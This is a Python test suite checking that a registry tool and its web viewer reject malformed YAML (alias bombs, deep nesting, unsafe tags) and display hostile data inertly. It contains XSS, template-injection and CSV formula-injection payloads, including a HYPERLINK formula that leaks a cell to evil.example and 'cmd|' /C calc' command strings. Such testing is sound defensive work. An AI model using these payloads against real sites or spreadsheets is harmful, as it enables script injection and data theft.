"""The hostile data corpus (``tests/hostile/``): every file gives a clear diagnostic, or
is stored and shown inertly.

* **Diagnostics**: the right code at the right line, one line of text, positions inside
  the file, from the library, from ``tvb validate`` (exit 1, or 2 when the file cannot be
  read at all) and in the viewer, which keeps the last good snapshot online and shows the
  diagnostics, escaped, on ``/status``.
* **Inert**: a register with markup, script, template syntax and spreadsheet formulas in
  every text field (and one with bidi overrides and zero-width characters, and one with
  dates at both ends of the calendar) loads, and then

  - every page of the viewer is free of injected markup: no script but the app's own, no
    event handler attribute, no ``javascript:`` link, no foreign element — and the
    payload is there as *text* (so it was escaped, not dropped);
  - every JSON twin is valid JSON (no ``NaN``) holding the data as written;
  - the network view's labels and tooltips are the plain data, and ``network.js`` puts
    them in the page as text nodes only (checked in the source, and in Chromium when it
    is installed);
  - the HTML report is escaped, CSV cells that a spreadsheet would run are neutralised,
    RDF in every format parses back to the very same graph (no triple more), and the
    SPARQL endpoint's XML, JSON, CSV, TSV, Turtle and N-Triples results stay well-formed.

The big inputs (100 MB, 1,000-deep block nesting, a nine-level alias bomb, 200,000-character
strings, a 10,000-character id) are generated into ``tmp_path`` by :mod:`tests.hostile`.
"""

from __future__ import annotations

import csv
import json
import re
import resource
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest
from click.testing import CliRunner

from registry.load import ReadError, read_source
from registry.validate import load_registry, registry_from_text
from tests import hostile
from tests.conftest import SAMPLE, TODAY, _viewer
from tvb.cli import main


@pytest.fixture(autouse=True)
def _english(monkeypatch):
    """These tests read the commands' English words (``tvb --lang en``, as ``TVB_LANG``);
    Dutch, the default, is walked in ``tests/test_i18n.py``."""
    monkeypatch.setenv("TVB_LANG", "en")


ROOT = Path(__file__).resolve().parent.parent
STATIC = ROOT / "web" / "static"

# -- what each file must give -----------------------------------------------------------------
#: file → (code, line, words in the message); line None = wherever the parser stops.
#: A code of "read" means the file cannot be read at all (ReadError, exit 2).
ERRORS: dict[str, tuple[str, int | None, str]] = {
    "alias-bomb.yaml": ("E003", None, "alias bomb"),
    "alias-bomb-in-a-field.yaml": ("E003", None, "alias bomb"),
    "alias-bomb-anchors-first.yaml": ("E003", None, "alias bomb"),
    "alias-recursive.yaml": ("E003", 3, "nesting deeper than 64 levels"),
    "deep-nesting-100.yaml": ("E003", 3, "nesting deeper than 64 levels"),
    "deep-nesting-1000.yaml": ("E001", 3, "exceeded maximum nesting depth"),
    "yaml-python-object.yaml": ("E003", 5, "unsupported YAML tag 'tag:yaml.org,2002:python/"),
    "yaml-tags.yaml": ("E003", 5, "unsupported YAML tag"),
    "yaml-merge-key.yaml": ("E003", 8, "unsupported YAML tag 'tag:yaml.org,2002:merge'"),
    "invalid-utf8.yaml": ("read", 5, "not valid UTF-8"),
    "utf16.yaml": ("read", 1, "not valid UTF-8"),
    "nul-byte.yaml": ("read", 4, "NUL byte"),
    "control-characters-raw.yaml": ("E001", 5, "control characters are not allowed (U+001B)"),
    "surrogate-escape.yaml": ("E001", 5, "invalid Unicode character escape"),
    "impossible-dates.yaml": ("E011", 7, "'reviewed' is '2026-02-30', not a valid date"),
    "long-id.yaml": ("E013", 4, "at most 80 long"),
    "markup-in-ids.yaml": ("E013", 5, "invalid id '<script>alert('id')</script>'"),
    "uri-injection.yaml": ("E007", 6, "'parent_uri' must be an http(s) or urn: URI"),
    "non-uri.yaml": ("E007", 6, "'parent_uri' must be an http(s) or urn: URI"),
    "huge-number.yaml": ("E014", 4, "'stale_after_days' is a number of 5,000 characters"),
    "non-finite-number.yaml": ("E007", 7, "'silo_threshold' must be a number"),
    "multi-document.yaml": ("E001", 3, "found another document"),
    "empty.yaml": ("E004", 1, "the file is empty"),
    "top-level-list.yaml": ("E007", 1, "the top level must be a mapping"),
    "duplicate-keys.yaml": ("E002", 6, "duplicate key 'name'"),
    "only-null.yaml": ("E004", 1, "the file is empty"),
    "tags-with-invalid-values.yaml": ("E007", 5, "'maybe' is not a valid !!bool value"),
    "newline-in-id-and-uri.yaml": ("E013", 5, "invalid id 'b-bakker\\n'"),
    "control-characters-escaped.yaml": ("E007", 7, "'name' holds a control character (U+001B)"),
}
#: Every finding of a file with several (line → code), beyond the first in ERRORS.
ALL_AT: dict[str, dict[int, str]] = {
    "impossible-dates.yaml": {7: "E011", 11: "E011", 15: "E011", 19: "E011", 23: "E011",
                              27: "E011"},
    "yaml-tags.yaml": {5: "E003", 6: "E003", 8: "E003", 10: "E003", 12: "E003", 13: "E003"},
    "uri-injection.yaml": {6: "E007", 8: "E007"},
    "huge-number.yaml": {4: "E014", 5: "E007"},
    "tags-with-invalid-values.yaml": {5: "E007", 6: "E007", 8: "E007", 9: "E007", 10: "E007"},
    "newline-in-id-and-uri.yaml": {5: "E013", 7: "E007"},
    "control-characters-escaped.yaml": {6: "E013", 7: "E007", 8: "E007", 11: "E007", 13: "E007",
                                        17: "E007", 18: "E005"},
}
#: Valid registers that must be stored and shown inertly.
INERT = ["html-everywhere.yaml", "bidi.yaml", "far-dates.yaml"]
def test_every_corpus_file_has_an_expectation():
    names = {p.name for p in hostile.corpus()}
    assert names == set(ERRORS) | set(INERT)


def _diagnostics(path: Path) -> tuple[list, bool]:
    """(errors, readable) of one file."""
    try:
        result = load_registry([path], today=TODAY)
    except ReadError as exc:
        return [exc.diagnostic], False
    return result.errors, True


def _assert_clear(diags: list, path: Path) -> None:
    """Every diagnostic: inside the file, one line, a code and a message."""
    n_lines = max(1, path.read_bytes().count(b"\n") + 1)
    for d in diags:
        assert 1 <= d.loc.line <= n_lines and d.loc.column >= 1, str(d)
        assert re.fullmatch(r"[EW]\d{3}", d.code), str(d)
        assert d.message and "\n" not in d.message, repr(d.message)
        assert "Traceback" not in d.message


# -- diagnostics ------------------------------------------------------------------------------
@pytest.mark.parametrize("name", sorted(ERRORS))
def test_error_file_gives_a_clear_diagnostic(name):
    path = hostile.HERE / name
    code, line, words = ERRORS[name]
    diags, readable = _diagnostics(path)
    assert diags, "no diagnostic"
    if code == "read":
        assert not readable and diags[0].code == "E003"
    else:
        assert readable
    first = next((d for d in diags if words in d.message), None)
    assert first is not None, [str(d) for d in diags]
    assert first.code == ("E003" if code == "read" else code), str(first)
    if line is not None:
        assert first.loc.line == line, str(first)
    for at, want in ALL_AT.get(name, {}).items():
        assert any(d.loc.line == at and d.code == want for d in diags), (at, want)
    _assert_clear(diags, path)


def test_syntax_error_at_the_end_of_a_file_without_a_final_line_break(tmp_path):
    """libyaml marks such an error one line past the end; it is reported on the last line
    (found by tests/test_fuzz_loader.py)."""
    path = tmp_path / "tvb.yaml"
    path.write_bytes(b"schema: 1\norganisation:\n  id: dgb\n0")  # 4 lines, no final \n
    diags, _ = _diagnostics(path)
    assert [d.code for d in diags] == ["E001"]
    assert (diags[0].loc.line, diags[0].loc.column) <= (4, 2), str(diags[0])


@pytest.mark.parametrize("name", sorted(ERRORS))
def test_tvb_validate_exits_1_or_2_with_the_diagnostic(name):
    path = hostile.HERE / name
    code, _, words = ERRORS[name]
    r = CliRunner().invoke(main, ["validate", str(path), "--today", TODAY.isoformat()])
    assert r.exit_code == (2 if code == "read" else 1), r.output
    assert r.exception is None or isinstance(r.exception, SystemExit), repr(r.exception)
    first = r.output.splitlines()[0]
    assert first.startswith(f"{path}:"), first
    assert words in r.output


# -- the viewer keeps the last good snapshot and shows the diagnostics, escaped ---------------
@pytest.fixture(scope="module")
def reloading(tmp_path_factory):
    """A viewer on a copy of the sample that the tests overwrite with hostile files."""
    path = tmp_path_factory.mktemp("reload") / "tvb.yaml"
    shutil.copyfile(SAMPLE, path)
    app = _viewer(path)
    yield app, path
    shutil.copyfile(SAMPLE, path)


def _restore(app, path: Path) -> str:
    shutil.copyfile(SAMPLE, path)
    holder = app.extensions["tvb.snapshots"]
    holder.refresh(force=True)
    assert holder.current is not None and not holder.errors
    return holder.current.data_version


@pytest.mark.parametrize("name", sorted(ERRORS))
def test_viewer_keeps_the_last_good_snapshot_on_each_hostile_file(reloading, name):
    app, path = reloading
    good = _restore(app, path)
    client = app.test_client()
    shutil.copyfile(hostile.HERE / name, path)
    assert app.extensions["tvb.snapshots"].refresh(force=True) is False
    health = client.get("/health").get_json()
    assert health["data_version"] == good and health["status"] == "degraded"
    status = client.get("/status.json?lang=en").get_json()
    code = ERRORS[name][0]
    assert (code if code != "read" else "E003") in {d["code"] for d in status["last_errors"]}
    page = client.get("/status?lang=en")
    assert page.status_code == 200
    scan = _scan_html(page.get_data(as_text=True))
    assert scan.problems == [], scan.problems
    words = ERRORS[name][2]
    assert any(words in d["message"] for d in status["last_errors"])
    assert words in scan.text
    r = client.get("/person/" + next(iter(app.extensions["tvb.snapshots"].current
                                          .registry.people)))
    assert r.status_code == 200 and 'class="banner" role="alert"' in r.text


def test_status_page_shows_markup_from_ids_as_text(reloading):
    app, path = reloading
    _restore(app, path)
    shutil.copyfile(hostile.HERE / "markup-in-ids.yaml", path)
    app.extensions["tvb.snapshots"].refresh(force=True)
    scan = _scan_html(app.test_client().get("/status?lang=en").get_data(as_text=True))
    assert scan.problems == []
    assert "invalid id '<script>alert('id')</script>'" in scan.text
    assert "<img src=x onerror=alert('unit')>" in scan.text


def test_viewer_started_on_a_hostile_file_answers_503_with_the_diagnostics(tmp_path):
    path = tmp_path / "tvb.yaml"
    shutil.copyfile(hostile.HERE / "markup-in-ids.yaml", path)
    client = _viewer(path).test_client()
    assert client.get("/health").status_code == 503
    r = client.get("/person/p-markup")
    assert r.status_code == 503 and _scan_html(r.get_data(as_text=True)).problems == []
    scan = _scan_html(client.get("/status").get_data(as_text=True))
    assert scan.problems == [] and "<img src=x onerror=alert('unit')>" in scan.text


# -- the big ones, generated ------------------------------------------------------------------
def test_a_100_mb_file_is_refused_before_it_is_read(tmp_path, reloading):
    big = hostile.big_file(tmp_path / "big.yaml", megabytes=100)
    assert big.stat().st_size > 100 * 2**20
    with pytest.raises(ReadError) as exc:
        read_source(big)
    d = exc.value.diagnostic
    assert d.code == "E003" and "over the limit of 50.0 MiB" in d.message
    assert (d.loc.line, d.loc.column) == (1, 1)
    r = CliRunner().invoke(main, ["validate", str(big)])
    assert r.exit_code == 2 and "over the limit" in r.output
    # and in the viewer: the last good snapshot stays
    app, path = reloading
    good = _restore(app, path)
    shutil.move(big, path)
    assert app.extensions["tvb.snapshots"].refresh(force=True) is False
    assert app.test_client().get("/health").get_json()["data_version"] == good
    _restore(app, path)


def test_1000_deep_block_nesting(tmp_path):
    path = hostile.deep_block_nesting(tmp_path / "deep.yaml", 1000)
    diags, _ = _diagnostics(path)
    assert [d.code for d in diags] == ["E001"]
    assert "exceeded maximum nesting depth" in diags[0].message
    _assert_clear(diags, path)


def test_nine_level_alias_bomb_is_refused_before_expansion():
    result = registry_from_text(hostile.alias_bomb(9, 10))
    assert [d.code for d in result.errors] == ["E003"]


def _limit_memory() -> None:  # pragma: no cover - runs in the child
    limit = 768 * 2**20
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))


def test_nine_level_alias_bomb_with_anchors_listed_first_is_refused(tmp_path):
    """The same bomb at full size, every level also listed largest-first under a later
    key, in a child with 768 MB of address space: refused before expansion (a counting
    order that met a level before the level repeating it once let this one through,
    to a MemoryError)."""
    path = tmp_path / "bomb.yaml"
    path.write_text(hostile.alias_bomb(9, 10, anchors_first=True), encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "tvb", "validate", str(path)],
                          capture_output=True, text=True, timeout=120,
                          preexec_fn=_limit_memory, cwd=ROOT)
    assert "Traceback" not in proc.stdout + proc.stderr
    assert proc.returncode == 1 and "alias bomb" in proc.stdout


def test_a_10000_character_id_is_refused(tmp_path):
    path = tmp_path / "tvb.yaml"
    path.write_text(hostile.long_id(10_000), encoding="utf-8")
    diags, _ = _diagnostics(path)
    first = min(diags, key=lambda d: (d.loc.line, d.loc.column))
    assert first.code == "E013" and first.loc.line == 3 and "at most 80 long" in first.message
    assert len(first.message) < 300  # the id is shown shortened
    _assert_clear(diags, path)


def test_long_strings_are_stored_and_shown(tmp_path):
    path = tmp_path / "tvb.yaml"
    path.write_text(hostile.long_strings(200_000), encoding="utf-8")
    result = load_registry([path], today=TODAY)
    assert result.ok, [str(d) for d in result.errors]
    p = result.registry.people["p-lang"]
    assert len(p.name) > 199_000
    client = _viewer(path).test_client()
    for url in ("/person/p-lang", "/dossier/d-lang", "/collaboration/c-lang", "/search?q=lang",
                "/network.json", "/integrator", "/lessons", "/organisation"):
        r = client.get(url)
        assert r.status_code == 200, url
    assert p.name in _scan_html(client.get("/person/p-lang").get_data(as_text=True)).text
    assert client.get("/person/p-lang.json").get_json()["name"] == p.name


# -- inert display ----------------------------------------------------------------------------
_FOREIGN_TAGS = {"img", "iframe", "object", "embed", "style", "base", "frame", "frameset", "b",
                 "applet", "math", "video", "audio", "source", "portal", "template"}
_URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcdoc"}


class _Scan(HTMLParser):
    """Collects what a page would run or load that the templates never produce, and the
    page's text (entity references resolved, so escaped markup reads as written)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.chunks: list[str] = []
        self._script = False

    @property
    def text(self) -> str:
        return "".join(self.chunks)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FOREIGN_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…> event handler")
            v = (value or "").strip().lower()
            if name in _URL_ATTRS and v.startswith(("javascript:", "vbscript:", "data:text")):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "http-equiv":
                if v not in ("content-type", "content-security-policy"):
                    self.problems.append(f"<meta http-equiv={value!r}>")
        if tag == "script":
            src = dict(attrs).get("src") or ""
            if not src.startswith("/static/"):
                self.problems.append(f"<script src={src!r}> not the app's own")
            self._script = True
        if tag == "link" and not (dict(attrs).get("href") or "").startswith("/static/"):
            self.problems.append(f"<link href={dict(attrs).get('href')!r}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and data.strip():
            self.problems.append(f"inline script {data[:60]!r}")
        self.chunks.append(data)


def _scan_html(body: str) -> _Scan:
    scan = _Scan()
    scan.feed(body)
    scan.close()
    return scan


def _strict_json(body: bytes):
    def refuse(constant: str):
        raise ValueError(f"{constant} is not JSON")

    return json.loads(body, parse_constant=refuse)


_SEARCHES = ["script", "alert", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
             "{{7*7}}", "cloud", "anna", "jan", "karel", "eeuwig", "'--", "\u202ecyber"]
_LITERALS = "SELECT ?s ?p ?o WHERE { ?s ?p ?o FILTER(isLiteral(?o)) } ORDER BY ?s ?p ?o"


def _pages(app) -> list[str]:
    """Every page of the viewer for this app's data: every list page, every entity page,
    searches for the payloads, and the SPARQL form and result table."""
    reg = app.extensions["tvb.snapshots"].current.registry
    pages = ["/", "/organisation", "/integrator", "/integrator?show=all", "/network",
             "/network?view=directorates", "/lessons", "/status", "/sparql", "/def/tvb",
             "/toegankelijkheid", "/recent",
             "/sparql?query=" + quote(_LITERALS),
             "/sparql?query=" + quote("# </textarea><script>alert(1)</script>\nASK {}")]
    pages += [f"/network?directorate={u.id}" for u in reg.directorates]
    pages += [f"/network?view=directorates&directorate={u.id}" for u in reg.directorates]
    for q in _SEARCHES:
        pages += [f"/?q={quote(q)}", f"/search?q={quote(q)}", f"/suggest?q={quote(q)}",
                  f"/lessons?q={quote(q)}"]
    for kind, table in (("directorate", reg.directorates), ("department", reg.departments)):
        pages += [f"/{kind}/{u.id}" for u in table]
    for kind, table in (("person", reg.people), ("dossier", reg.dossiers),
                        ("process", reg.processes), ("collaboration", reg.collaborations)):
        pages += [f"/{kind}/{id_}" for id_ in table]
    return pages


def _twin(path: str) -> str | None:
    base, _, query = path.partition("?")
    if base.startswith("/sparql"):
        return None
    base = "/index.json" if base == "/" else base + ".json"
    return base + ("?" + query if query else "")


@pytest.fixture(scope="module", params=INERT)
def inert(request, tmp_path_factory):
    """(name, app, registry) for each inert file, served from a private copy."""
    path = tmp_path_factory.mktemp("inert") / request.param
    shutil.copyfile(hostile.HERE / request.param, path)
    result = load_registry([path], today=TODAY)
    assert result.ok, [str(d) for d in result.errors]
    app = _viewer(path)
    assert app.extensions["tvb.snapshots"].current is not None
    return request.param, app, result.registry


def test_pages_cover_every_route(tmp_path):
    """The page list reaches every route of the app (a new route must be added here)."""
    path = tmp_path / "tvb.yaml"
    shutil.copyfile(hostile.HERE / "html-everywhere.yaml", path)
    app = _viewer(path)
    adapter = app.url_map.bind("localhost")
    reached = set()
    for path in _pages(app):
        for p in (path, _twin(path)):
            if p:
                reached.add(adapter.match(p.split("?")[0])[0])
    routes = {r.endpoint for r in app.url_map.iter_rules()}
    # RDF documents are no pages: test_rdf_documents_of_every_entity_parse reads them
    rdf = {"linkeddata.entity_document", "linkeddata.ontology_document", "linkeddata.void"}
    missing = routes - reached - rdf - {"static", "linkeddata.by_id",
                                        "entities.organisation_by_id", "status.health",
                                        "status.health_json", "openapi.openapi",
                                        "sparql.sparql_json",
                                        # JSON only, ids and names: tests/test_paging.py
                                        "integrator.sectoral",
                                        "recent.feed"}  # Atom; tests/test_history.py
    assert missing == set()


def test_rdf_documents_of_every_entity_parse(inert):
    """The linked-data documents of hostile data are RDF that parses, holding each text as
    written (no markup or Turtle syntax in the data can break out of its literal)."""
    from rdflib import Graph

    name, app, reg = inert
    client = app.test_client()
    ids = [*reg.units, *reg.people, *reg.dossiers, *reg.processes, *reg.collaborations]
    for id_ in ids:
        for ext, fmt in (("ttl", "turtle"), ("jsonld", "json-ld"), ("nt", "nt"),
                         ("rdf", "xml")):
            r = client.get(f"/id/{id_}.{ext}")
            assert r.status_code == 200, (id_, ext)
            g = Graph().parse(data=r.data, format=fmt)
            assert len(g) > 2, (id_, ext)
    for p in reg.people.values():
        g = Graph().parse(data=client.get(f"/id/{p.id}.ttl").data, format="turtle")
        assert p.name in {str(o) for o in g.objects()}, p.id
    for path in ("/.well-known/void", "/def/tvb.ttl"):
        r = client.get(path)
        assert r.status_code == 200 and len(Graph().parse(data=r.data, format="turtle")) > 10


def test_every_page_is_inert(inert):
    name, app, reg = inert
    client = app.test_client()
    for path in _pages(app):
        r = client.get(path, headers={"Accept": "text/html"})
        assert r.status_code == 200, (path, r.status_code)
        assert r.mimetype == "text/html", path
        scan = _scan_html(r.get_data(as_text=True))
        assert scan.problems == [], (path, scan.problems)
        body = r.get_data(as_text=True)
        assert "<script>alert" not in body and "<img src=x" not in body, path


def _shown_texts(reg, kind: str, id_: str) -> list[str]:
    """Texts of the data that the entity's own page shows."""
    e = reg.get(id_)
    if kind in ("directorate", "department"):
        return [e.name, *e.tasks]
    if kind == "person":
        return [x for x in (e.name, e.function, e.email, e.phone) if x]
    if kind == "dossier":
        return [x for x in (e.title, e.description, *e.keywords) if x]
    if kind == "process":
        return [x for x in (e.name, e.description) if x]
    return [x for x in (e.name, e.purpose, *(ls for ev in e.evaluations for ls in ev.lessons))
            if x]


def test_entity_pages_show_the_payload_as_text(inert):
    """Escaped, not dropped: the page's text holds every text field as written."""
    name, app, reg = inert
    client = app.test_client()
    entities = [(u.kind, u.id) for u in reg.units.values()]
    entities += [(reg.kind_of(i), i) for t in (reg.people, reg.dossiers, reg.processes,
                                               reg.collaborations) for i in t]
    for kind, id_ in entities:
        text = _scan_html(client.get(f"/{kind}/{id_}").get_data(as_text=True)).text
        for value in _shown_texts(reg, kind, id_):
            # HTML has no NUL: a browser and the parser both read it as U+FFFD.
            want = value.replace("\x00", "\ufffd")
            assert want in text or value in text, (kind, id_, value)
    if name == "html-everywhere.yaml":
        home = _scan_html(client.get("/organisation").get_data(as_text=True)).text
        assert reg.organisation.name in home
        assert "{{7*7}}" in _scan_html(client.get("/person/p-cees").get_data(as_text=True)).text


def test_every_json_twin_holds_the_data_as_written(inert):
    name, app, reg = inert
    client = app.test_client()
    for path in _pages(app):
        twin = _twin(path)
        if twin is None:
            continue
        r = client.get(twin)
        assert r.status_code == 200 and r.mimetype == "application/json", twin
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        _strict_json(r.get_data())
    for pid, p in reg.people.items():
        data = client.get(f"/person/{pid}.json").get_json()
        assert (data["name"], data["function"], data["email"]) == (p.name, p.function, p.email)
    for did, d in reg.dossiers.items():
        data = client.get(f"/dossier/{did}.json").get_json()
        assert (data["title"], data["description"]) == (d.title, d.description)


def test_sparql_results_stay_well_formed(inert):
    name, app, reg = inert
    client = app.test_client()
    q = "/sparql.json?query=" + quote(_LITERALS)
    rows = client.get(q).get_json()["results"]["bindings"]
    values = {b["o"]["value"] for b in rows}
    names = {p.name for p in reg.people.values()}
    assert names <= values  # every name comes back exactly as written
    base = "/sparql?query=" + quote(_LITERALS)
    ET.fromstring(client.get(base + "&format=xml").get_data())
    _strict_json(client.get(base + "&format=json").get_data())
    for fmt, mimetype in (("csv", "text/csv"), ("tsv", "text/tab-separated-values")):
        r = client.get(base + "&format=" + fmt)
        assert r.status_code == 200 and r.mimetype == mimetype
    from rdflib import Graph

    construct = "/sparql?query=" + quote("CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o }")
    g1 = Graph().parse(data=client.get(construct + "&format=turtle").get_data(as_text=True),
                       format="turtle")
    g2 = Graph().parse(data=client.get(construct + "&format=ntriples").get_data(as_text=True),
                       format="nt")
    assert len(g1) == len(g2) > 0


# -- the network view -------------------------------------------------------------------------
def test_network_data_is_the_plain_data(inert):
    """Labels and tooltips are the names as written (not escaped, not stripped): the
    script makes them text nodes, so escaping here would show '&lt;' to people."""
    name, app, reg = inert
    client = app.test_client()
    nodes = {n["id"]: n for n in client.get("/network.json").get_json()["nodes"]}
    for pid, p in reg.people.items():
        if pid in nodes:
            assert nodes[pid]["label"] == p.name
            assert nodes[pid]["title"].startswith(p.name)
    dirs = {n["id"]: n for n in client.get("/network.json?view=directorates")
            .get_json()["nodes"]}
    for u in reg.directorates:
        assert dirs[u.id]["label"] == u.label and dirs[u.id]["title"].startswith(u.name)


def test_network_script_puts_data_in_the_page_as_text_only():
    js = (STATIC / "network.js").read_text(encoding="utf-8")
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(",
                 "new Function", "setAttribute(\"on", "multi:"):
        assert sink not in js, sink
    # every tooltip goes through textTip, which builds a text node
    titles = re.findall(r"title\s*[:=]\s*([^,;\n]+)", js)
    assert titles and all(t.strip().startswith("textTip(") for t in titles), titles
    assert re.search(r"function textTip\(text\) \{[^}]*\.textContent = text;", js)
    for other in STATIC.glob("*.js"):
        src = other.read_text(encoding="utf-8")
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write"):
            assert sink not in src.replace("(never innerHTML)", ""), (other.name, sink)


def test_text_from_the_data_is_bidi_isolated():
    """A right-to-left override in a name must not reverse the text after it."""
    css = re.sub(r"/\*.*?\*/", "", (STATIC / "tvb.css").read_text(encoding="utf-8"),
                 flags=re.S)
    rule = re.search(r"([^{}]*)\{[^}]*unicode-bidi:\s*isolate", css)
    assert rule, "no unicode-bidi: isolate rule"
    selectors = {s.strip() for s in rule.group(1).split(",")}
    assert {"a", "span", "code", "strong"} <= selectors, selectors


# -- the HTML report, CSV, RDF ----------------------------------------------------------------
def test_html_report_is_escaped(inert):
    from graph.analysis import report
    from render.report import render_html, render_markdown

    name, app, reg = inert
    rep = report(reg, TODAY)
    scan = _scan_html(render_html(rep))
    assert [p for p in scan.problems if not p.startswith("<style")] == []
    assert "<style" not in render_html(rep).split("</head>", 1)[1]  # only the page's own
    for pid in rep["names"]:
        assert rep["names"][pid] in scan.text or pid not in reg.people
    md = render_markdown(rep)
    assert not re.search(r"(?<!\\)<", md)  # every '<' from the data is escaped


_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_are_neutralised(inert, tmp_path):
    from render.tables import write_csv

    name, app, reg = inert
    out = tmp_path / "csv"
    files = write_csv(reg, out)
    seen = set()
    for f in files:
        with open(out / f, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(_FORMULA), (f, cell)
                    seen.add(cell)
    if name == "html-everywhere.yaml":
        for value in ('=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
                      "-2+3+cmd|' /C calc'!A0", "\t=2+5", "+31 70 000 0002",
                      "@SUM(1+1)*cmd|' /C calc'!A0", "=1+2"):
            assert "'" + value in seen, value


def test_rdf_parses_back_to_the_same_graph(inert):
    """No value can end a literal early and add triples of its own, in any format."""
    from rdflib import Graph, Literal
    from rdflib.compare import isomorphic
    from rdflib.namespace import FOAF

    from graph.export import serialize
    from graph.rdf import compile_registry, entity_iri, prefixes
    from graph.store import build_store, run_query, to_ntriples

    name, app, reg = inert
    g = compile_registry(reg)
    for fmt, parser in (("turtle", "turtle"), ("ntriples", "nt"), ("jsonld", "json-ld")):
        back = Graph().parse(data=serialize(g, fmt).decode("utf-8"), format=parser)
        assert len(back) == len(g), fmt
        assert isomorphic(back, g), fmt
    for pid, p in reg.people.items():
        assert (entity_iri(reg, pid), FOAF.name, Literal(p.name)) in g
    store = build_store(to_ntriples(reg))
    result = run_query(store, "SELECT ?n WHERE { ?p a foaf:Person ; foaf:name ?n }",
                       namespaces=prefixes(reg))
    assert {str(row[0]) for row in result.rows} == {p.name for p in reg.people.values()}


# -- in a browser -----------------------------------------------------------------------------
def _chromium() -> str | None:
    import os

    for p in (os.environ.get("TVB_CHROMIUM"), "/usr/bin/chromium", shutil.which("chromium"),
              shutil.which("chromium-browser")):
        if p and Path(p).exists():
            return p
    return None


def test_tooltips_and_pages_are_inert_in_a_browser(tmp_path):
    """Chromium on the html-everywhere register: no dialog opens, no script of the data
    runs, and a node's tooltip is a text node holding the name as written."""
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.skip("Playwright is not installed")
    chromium = _chromium()
    if chromium is None:
        pytest.skip("no Chromium found")
    import threading

    from waitress import wasyncore
    from waitress.server import create_server

    from web import create_app

    path = tmp_path / "tvb.yaml"
    shutil.copyfile(hostile.HERE / "html-everywhere.yaml", path)
    app = create_app({"DATA": path, "TODAY": TODAY, "WATCH": False})
    srv = create_server(app, host="127.0.0.1", port=0, threads=2)
    thread = threading.Thread(target=srv.run, daemon=True)
    thread.start()
    base = f"http://127.0.0.1:{srv.effective_port}"
    dialogs: list[str] = []
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=chromium, args=[
                "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                "--disable-background-networking", "--disable-component-update"])
            try:
                page = browser.new_page()
                page.set_default_timeout(20_000)
                page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
                page.route("**/*", lambda route: route.continue_()
                           if route.request.url.startswith(base + "/") else route.abort())
                for url in ("/person/p-anna", "/dossier/d-cloud", "/integrator",
                            "/search?q=script", "/collaboration/c-team"):
                    page.goto(base + url)
                    assert page.evaluate("document.querySelectorAll('img,iframe,object')"
                                         ".length") == 0, url
                page.goto(base + "/network")
                page.wait_for_selector("#network[data-drawn='true']")
                tip = page.evaluate("""() => {
                    const n = window.tvbNetwork.body.data.nodes.get('p-anna');
                    return {text: n.title.textContent, children: n.title.children.length,
                            tag: n.title.tagName};
                }""")
                title = next(n["title"] for n in app.test_client().get("/network.json")
                             .get_json()["nodes"] if n["id"] == "p-anna")
                assert tip == {"text": title, "children": 0, "tag": "DIV"}
                assert title.startswith("Anna <script>alert('person.name')</script>")
                # hover the node: vis shows the tooltip element itself
                pos = page.evaluate("""() => {
                    const net = window.tvbNetwork, p = net.getPositions(['p-anna'])['p-anna'];
                    const d = net.canvasToDOM(p), r = document.getElementById('network')
                        .getBoundingClientRect();
                    return {x: r.left + d.x, y: r.top + d.y};
                }""")
                page.mouse.move(pos["x"], pos["y"])
                page.wait_for_selector("div.vis-tooltip .vis-tip", state="attached")
                shown = page.evaluate("""() => {
                    const t = document.querySelector('div.vis-tooltip');
                    return {text: t.textContent, scripts: t.querySelectorAll('*').length};
                }""")
                assert shown["text"].startswith("Anna <script>") and shown["scripts"] == 1
                assert page.evaluate("typeof window.__pwned") == "undefined"
            finally:
                browser.close()
    finally:
        srv.task_dispatcher.shutdown()
        srv.trigger.pull_trigger(lambda: wasyncore.close_all(srv._map))
        thread.join(10)
    assert dialogs == []
